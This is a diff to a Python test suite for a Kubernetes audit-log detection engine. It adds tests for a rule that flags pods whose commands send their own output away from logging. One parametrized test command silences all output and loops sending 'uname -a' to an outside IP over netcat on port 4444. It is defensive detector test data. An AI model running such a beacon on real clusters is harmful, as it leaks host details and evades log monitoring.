@@ -3,6 +3,14 @@
 Each fixture holds the Event dicts the audit-log sensor emitted for one scenario's objects during a
 real run (`--backend kind`). Adversary fixtures must raise their rule, on the scenario's own object;
 benign twins must raise nothing, and raise their rule once the policy that sanctions them is gone.
+
+The recordings predate the sensor's ``kubernetes.pod.output_*`` fields (where a container's own
+output goes, from a parse of its command: detectors/sensors/shell_output.py). The raw audit lines
+were not kept, so those fields were added to the recorded events afterwards by the sensor's own
+function, from each event's recorded command and args (every recorded pod has one container);
+``test_output_fields_are_what_the_sensor_computes_from_the_recorded_command`` checks they still are.
+The logs-hidden cases below go through the whole normaliser, on the recorded raw audit line
+raw_pod_create_net_admin.audit.json with only its container's command replaced.
 """
 
 from __future__ import annotations
@@ -124,6 +132,64 @@ def test_flatten_merges_lists_of_objects_per_field():
             "requestObject", out)
     assert out["requestObject.spec.containers.name"] == ["a", "b"]
     assert out["requestObject.spec.containers.securityContext.privileged"] is True
+
+
+def test_output_fields_are_what_the_sensor_computes_from_the_recorded_command():
+    checked = 0
+    for path in sorted(FIXTURES.glob("*.events.json")):
+        for event in json.loads(path.read_text()):
+            if "kubernetes.pod.images" not in event:
+                continue
+            assert len(event["kubernetes.pod.images"]) == 1, path.name
+            prefix = "requestObject.spec.template.spec.containers" \
+                if "requestObject.spec.template.spec.containers.image" in event else "requestObject.spec.containers"
+            container = {"name": event.get(f"{prefix}.name", ""), "command": event.get(f"{prefix}.command"),
+                         "args": event.get(f"{prefix}.args")}
+            computed: dict = {}
+            AuditNormaliser._output_fields([container], computed)
+            assert {k: v for k, v in event.items() if k.startswith("kubernetes.pod.output")} == computed, path.name
+            checked += 1
+    assert checked >= 15
+
+
+LOGS_HIDDEN = "stowaway.k8s.logs-hidden"
+POD_COMMANDS = {  # command -> does the pod hide its output from the log pipeline?
+    ("curl", "-s", "-o", "/dev/null", "http://198.18.0.20/"): False,
+    ("sh", "-c", "curl -sf -o /dev/null http://198.18.0.20/health && exec python3 -m http.server 8080"): False,
+    ("sh", "-c", "until curl -sf http://198.18.0.20/ >/dev/null; do sleep 1; done; exec python3 -m http.server"): False,
+    ("sh", "-c", "echo 'logs go to >/dev/null in prod'; exec python3 -m http.server"): False,
+    ("sh", "-c", "exec python3 -m http.server 2>&1"): False,
+    ("sh", "-c", "exec python3 -m http.server > /dev/null"): True,
+    ("sh", "-c", "python3 -m http.server 1>/dev/null"): True,
+    ("sh", "-c", "python3 -m http.server 2>&1 >/dev/null"): True,
+    ("bash", "-c", "python3 -m http.server &>/dev/null"): True,
+    ("sh", "-c", "exec >/dev/null 2>&1; while true; do uname -a | nc 198.19.0.10 4444; sleep 5; done"): True,
+    ("sh", "-c", "exec python3 -m http.server >/var/log/web.log 2>&1"): True,
+}
+
+
+def _pod_create(command: tuple[str, ...]) -> dict:
+    raw = json.loads((FIXTURES / "raw_pod_create_net_admin.audit.json").read_text())
+    raw = copy.deepcopy(raw)
+    container = raw["requestObject"]["spec"]["containers"][0]
+    container["command"] = list(command)
+    container["securityContext"] = {}  # only the command differs from an ordinary pod
+    return raw
+
+
+@pytest.mark.parametrize(("command", "hidden"), POD_COMMANDS.items(), ids=lambda v: str(v)[:60])
+def test_logs_hidden_means_the_containers_own_output_is_sent_away(command, hidden):
+    event = AuditNormaliser().normalise(_pod_create(command))
+    assert event is not None
+    engine = DetectionEngine(load_rules([DEFAULT_RULE_DIR]), load_policy())
+    fired = {a.rule_id for a in engine.process(event)}
+    assert (LOGS_HIDDEN in fired) is hidden, event.get("kubernetes.pod.output_targets")
+
+
+def test_logs_hidden_names_where_the_output_went():
+    event = AuditNormaliser().normalise(_pod_create(("sh", "-c", "exec app >/var/log/web.log 2>&1")))
+    assert event is not None and event["kubernetes.pod.output_targets"] == ["/var/log/web.log"]
+    assert event["kubernetes.pod.output_redirected_containers"] == ["proxy"]
 
 
 def test_kubernetes_policy_is_strict(tmp_path):
